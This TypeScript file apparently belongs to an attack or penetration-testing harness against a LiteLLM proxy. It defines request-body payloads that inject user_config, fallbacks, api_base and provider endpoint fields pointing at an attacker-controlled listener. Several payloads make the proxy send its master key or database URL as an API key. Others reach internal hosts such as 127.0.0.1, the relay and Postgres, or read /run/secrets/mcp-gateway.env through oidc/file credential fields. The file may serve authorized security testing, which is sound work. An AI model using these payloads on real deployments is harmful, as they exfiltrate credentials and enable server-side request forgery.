import type { Scene } from "./attack.ts";

/** A piece of a request's body, and what it is. */
export interface Piece {
  readonly name: string;
  readonly of: (scene: Scene) => Readonly<Record<string, unknown>>;
  /** Not asked of the configured model: a `model` of the piece's own, or none. */
  readonly ownModel?: true;
}

const pair = ({ listener }: Scene) => ({ api_key: "attack", api_base: listener });

const deployment = (scene: Scene, more: Readonly<Record<string, unknown>> = {}) => ({
  model_name: "*",
  litellm_params: { model: "openai/x", ...pair(scene), ...more },
});

/** Where an attacker who has read the documentation supposes secrets. */
const secretsFile = "/run/secrets/mcp-gateway.env";

const image = ({ listener }: Scene) => ({
  messages: [
    {
      role: "user",
      content: [
        { type: "text", text: "what is it?" },
        { type: "image_url", image_url: { url: `${listener}/x.png` } },
      ],
    },
  ],
});

/** S1: a router of the client's own, with what LiteLLM's environment holds as its key. */
export const userConfig: readonly Piece[] = [
  {
    name: "user_config, the master key as its key",
    of: (scene) => ({
      user_config: {
        model_list: [deployment(scene, { api_key: "os.environ/LITELLM_MASTER_KEY" })],
      },
    }),
    ownModel: true,
  },
  {
    name: "user_config, the database's URL",
    of: (scene) => ({
      user_config: { model_list: [deployment(scene, { api_key: "os.environ/DATABASE_URL" })] },
    }),
    ownModel: true,
  },
  {
    name: "user_config, a fixed key",
    of: (scene) => ({ user_config: { model_list: [deployment(scene)] } }),
    ownModel: true,
  },
  {
    name: "user_config with the key's own model",
    of: (scene) => ({
      user_config: {
        model_list: [{ ...deployment(scene), model_name: scene.model }],
      },
    }),
  },
];

/** S1 where the listener cannot be reached: the proxy's own routes, and the connectors' relay. */
export const userConfigInside: readonly Piece[] = (
  [
    ["the proxy's own routes", "http://127.0.0.1:4000/health/liveliness?x="],
    ["the relay", "http://mcp-relay:4000/mcp?x="],
    ["the database", "http://mcp-litellm-postgres:5432/"],
  ] as const
).map(([name, address]) => ({
  name: `user_config to ${name}`,
  of: (scene) => ({
    user_config: { model_list: [deployment(scene, { api_base: address })] },
    num_retries: 0,
  }),
  ownModel: true,
}));

/** Addresses and credentials of the client's own, wherever LiteLLM takes one from. */
export const pairs: readonly Piece[] = [
  { name: "api_key and api_base", of: pair },
  { name: "api_key and base_url", of: ({ listener }) => ({ api_key: "x", base_url: listener }) },
  { name: "api_base alone", of: ({ listener }) => ({ api_base: listener }) },
  { name: "base_url alone", of: ({ listener }) => ({ base_url: listener }) },
];

const fallbacks = (scene: Scene, entry: unknown) => ({
  fallbacks: [entry],
  mock_testing_fallbacks: true,
  num_retries: 0,
  model: scene.model,
});

export const fallbackPieces: readonly Piece[] = [
  {
    name: "fallbacks with credentials, another name",
    of: (scene) => fallbacks(scene, { model: "openai/x", ...pair(scene) }),
  },
  {
    name: "fallbacks with credentials, the key's own model",
    of: (scene) => fallbacks(scene, { model: scene.model, ...pair(scene) }),
  },
  {
    name: "fallbacks with a master key out of the environment",
    of: (scene) =>
      fallbacks(scene, {
        model: scene.model,
        api_key: "os.environ/LITELLM_MASTER_KEY",
        api_base: scene.listener,
      }),
  },
  {
    name: "fallbacks with a user_config",
    of: (scene) =>
      fallbacks(scene, {
        model: scene.model,
        user_config: { model_list: [deployment(scene)] },
      }),
  },
];

/** Where a provider's code fetches what a message names, or another provider is chosen. */
export const providers: readonly Piece[] = [
  ...["anthropic", "gemini", "bedrock", "ollama", "vertex_ai", "cohere", "watsonx"].map(
    (provider): Piece => ({
      name: `custom_llm_provider ${provider} and an image's URL`,
      of: (scene) => ({ custom_llm_provider: provider, api_key: "x", ...image(scene) }),
    }),
  ),
  {
    name: "an image's URL alone",
    of: image,
  },
  {
    name: "a file's URL",
    of: ({ listener }) => ({
      messages: [
        {
          role: "user",
          content: [{ type: "file", file: { file_id: `${listener}/x.pdf`, format: "text/plain" } }],
        },
      ],
    }),
  },
  {
    name: "parts of /v1/responses with URLs",
    of: ({ listener }) => ({
      input: [
        {
          role: "user",
          content: [
            { type: "input_text", text: "what is it?" },
            { type: "input_image", image_url: `${listener}/x.png` },
            { type: "input_file", file_url: `${listener}/x.pdf` },
          ],
        },
      ],
    }),
  },
  {
    name: "a provider's own endpoint fields",
    of: ({ listener }) => ({
      aws_bedrock_runtime_endpoint: listener,
      aws_sts_endpoint: listener,
      azure_endpoint: listener,
      vertex_api_endpoint: listener,
      watsonx_url: listener,
      api_url: listener,
      endpoint: listener,
    }),
  },
  {
    name: "a file of the proxy's as a credential, azure",
    of: ({ listener }) => ({
      custom_llm_provider: "azure",
      api_base: listener,
      api_version: "2024-06-01",
      azure_ad_token: `oidc/file/${secretsFile}`,
    }),
  },
  {
    name: "a file of the proxy's as a credential, bedrock",
    of: ({ listener }) => ({
      custom_llm_provider: "bedrock",
      aws_region_name: "us-east-1",
      aws_role_name: "arn:aws:iam::123456789012:role/x",
      aws_session_name: "x",
      aws_web_identity_token: `oidc/file/${secretsFile}`,
      aws_sts_endpoint: listener,
    }),
  },
  {
    name: "a file of the proxy's as a credential, vertex_ai",
    of: ({ listener }) => ({
      custom_llm_provider: "vertex_ai",
      vertex_project: "x",
      vertex_location: "us-central1",
      vertex_credentials: JSON.stringify({
        type: "external_account",
        audience: "x",
        subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
        token_url: listener,
        credential_source: { file: secretsFile },
      }),
    }),
  },
  {
    name: "use_litellm_proxy",
    of: (scene) => ({ use_litellm_proxy: true, ...pair(scene) }),
  },
];
